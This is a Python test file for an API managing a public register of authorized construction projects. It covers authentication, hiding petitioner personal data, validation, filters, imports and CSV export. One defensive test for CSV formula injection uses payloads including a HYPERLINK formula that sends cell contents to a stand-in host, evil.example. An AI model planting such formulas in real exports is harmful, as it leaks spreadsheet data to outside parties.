"""The register of authorized projects: recording, open data, personal data kept out."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import geopandas as gpd
from fastapi.testclient import TestClient
from shapely.affinity import translate
from shapely.geometry import box, mapping
from sqlalchemy import Connection, text

from tests.accounts import AGENT

SQUARE = box(358700, 366600, 358720, 366620)


def project(number: str = "AU-ST/2026/00001", **changes: Any) -> dict[str, Any]:
    return {
        "permit_number": number,
        "permit_date": "2026-11-20",
        "commune": "Ain Demo",
        "kind": "construction",
        "use": "habitation",
        "procedure": "petits_projets",
        "storeys": 2,
        "height_m": 9.0,
        "floor_area_m2": 300.0,
        "filed_on": "2026-10-01",
        "decided_on": "2026-10-20",
        "footprint": mapping(SQUARE),
        "petitioner": {"name": "Mme Privée", "cin": "AB123456"},
        **changes,
    }


def test_record_needs_the_agent_token(client: TestClient) -> None:
    assert client.post("/api/v1/projects", json=project()).status_code == 401


def test_recorded_project_is_public_without_personal_data(
    client: TestClient, conn: Connection
) -> None:
    created = client.post("/api/v1/projects", json=project(), headers=AGENT)
    assert created.status_code == 201, created.text
    page = client.get("/api/v1/projects").json()
    [feature] = page["features"]
    assert feature["properties"]["permit_number"] == "AU-ST/2026/00001"
    lon, lat = feature["geometry"]["coordinates"]
    assert -6.93 < lon < -6.92 and 33.88 < lat < 33.89
    public = json.dumps(page) + client.get("/api/v1/projects.csv").text + created.text
    assert "Privée" not in public and "AB123456" not in public
    stored = conn.execute(text("SELECT petitioner->>'cin' FROM projects")).scalar()
    assert stored == "AB123456"  # kept for the agency, never published
    event = conn.execute(text("SELECT count(*) FROM project_events")).scalar()
    assert event == 1


def test_bad_record_is_422_naming_the_field(client: TestClient) -> None:
    negative = client.post("/api/v1/projects", headers=AGENT, json=project(storeys=-1))
    assert negative.status_code == 422 and "storeys" in json.dumps(negative.json())
    backwards = client.post(
        "/api/v1/projects", headers=AGENT, json=project(decided_on="2026-09-01")
    )
    assert backwards.status_code == 422 and "decided_on" in json.dumps(backwards.json())


def test_filters_bbox_and_paging(client: TestClient) -> None:
    for i, (commune, date) in enumerate(
        [("Ain Demo", "2025-01-10"), ("Ain Demo", "2026-03-01"), ("Temara", "2026-05-01")]
    ):
        body = project(
            f"AU/{i}",
            commune=commune,
            permit_date=date,
            footprint=mapping(translate(SQUARE, i * 500, 0)),
        )
        assert client.post("/api/v1/projects", json=body, headers=AGENT).status_code == 201

    def get(query: str) -> dict[str, Any]:
        page: dict[str, Any] = client.get(f"/api/v1/projects?{query}").json()
        return page

    assert get("commune=Temara")["numberReturned"] == 1
    assert get("from=2026-01-01")["numberReturned"] == 2
    assert get("from=2026-01-01&to=2026-04-01")["numberReturned"] == 1
    assert get("bbox=-7,33,-6.9,34")["numberReturned"] == 3
    assert get("bbox=0,0,1,1")["numberReturned"] == 0
    first = get("limit=2")
    assert first["numberReturned"] == 2 and first["links"][0]["rel"] == "next"
    rest = client.get(first["links"][0]["href"]).json()
    assert rest["numberReturned"] == 1
    assert client.get("/api/v1/projects?bbox=1,2").status_code == 422
    assert client.get("/api/v1/projects?from=hier").status_code == 422
    csv_lines = client.get("/api/v1/projects.csv?commune=Ain%20Demo").text.strip().splitlines()
    assert csv_lines[0].startswith("id,permit_number") and len(csv_lines) == 3


def test_csv_cells_are_no_formulas_and_numbers_stay_numbers(client: TestClient) -> None:
    """Issue #10: the public CSV exported =HYPERLINK(…) and =1+1 as they came in; a spreadsheet
    opening it runs them. Text starting with = + - @ or a tab is quoted; numbers, Morocco's
    negative longitudes included, are written as numbers."""
    attacks = {
        '=HYPERLINK("http://evil.example/?"&A1,"Voir")': "Ain Demo",
        "+1-2": "=1+1",
        "-3+4": "@SUM(A1:A9)",
        "AU/OK/1": "\tTémara",
        "AU/OK/2": "Ain Demo",
    }
    for number, (permit, commune) in enumerate(attacks.items()):
        shifted = mapping(translate(SQUARE, xoff=30 * number))
        body = project(permit, commune=commune, footprint=shifted)
        assert client.post("/api/v1/projects", json=body, headers=AGENT).status_code == 201
    rows = list(csv.DictReader(io.StringIO(client.get("/api/v1/projects.csv").text)))
    cells = {row["permit_number"]: row for row in rows}
    assert set(cells) == {
        '\'=HYPERLINK("http://evil.example/?"&A1,"Voir")',
        "'+1-2",
        "'-3+4",
        "AU/OK/1",
        "AU/OK/2",
    }
    assert cells["'+1-2"]["commune"] == "'=1+1"
    assert cells["'-3+4"]["commune"] == "'@SUM(A1:A9)"
    assert cells["AU/OK/1"]["commune"] == "'\tTémara"
    assert cells["AU/OK/2"]["commune"] == "Ain Demo"
    for row in rows:  # numbers as numbers: a negative longitude is no formula to neutralise
        assert float(row["longitude"]) < -6.9 and not row["longitude"].startswith("'")
        assert float(row["height_m"]) == 9.0 and row["storeys"] == "2"


def test_import_is_all_or_nothing(client: TestClient, conn: Connection, tmp_path: Path) -> None:
    frame = gpd.GeoDataFrame(
        [
            {k: v for k, v in project("AU/A").items() if k not in ("footprint", "petitioner")},
            {
                k: v
                for k, v in project("AU/B", kind="chalet").items()
                if k not in ("footprint", "petitioner")
            },
        ],
        geometry=[SQUARE, translate(SQUARE, 50, 0)],
        crs=26191,
    )
    path = tmp_path / "registre.geojson"
    frame.to_file(path, engine="pyogrio")
    refused = client.post(
        "/api/v1/projects/import",
        headers=AGENT,
        files={"file": ("registre.geojson", path.read_bytes())},
    )
    assert refused.status_code == 422
    [problem] = refused.json()["errors"]
    assert problem["row"] == 2 and problem["field"] == "kind"
    assert conn.execute(text("SELECT count(*) FROM projects")).scalar() == 0
    frame.loc[1, "kind"] = "construction"
    frame.to_file(path, engine="pyogrio")
    done = client.post(
        "/api/v1/projects/import",
        headers=AGENT,
        files={"file": ("registre.geojson", path.read_bytes())},
    )
    assert done.status_code == 201 and done.json()["recorded"] == 2


def test_import_csv_with_wkt(client: TestClient, tmp_path: Path) -> None:
    row = {k: v for k, v in project("AU/CSV").items() if k not in ("footprint", "petitioner")}
    header = ",".join([*row, "footprint_wkt"])
    values = ",".join([str(v) for v in row.values()] + [f'"{SQUARE.wkt}"'])
    response = client.post(
        "/api/v1/projects/import",
        headers=AGENT,
        files={"file": ("registre.csv", f"{header}\n{values}\n".encode())},
    )
    assert response.status_code == 201, response.text


def test_footprint_that_is_not_a_polygon_is_422(client: TestClient) -> None:
    """Found by schemathesis: `{}` as footprint was a 500."""
    for footprint in ({}, {"type": "Point", "coordinates": [1, 2]}, {"type": "Polygon"}):
        response = client.post("/api/v1/projects", headers=AGENT, json=project(footprint=footprint))
        assert response.status_code == 422, footprint
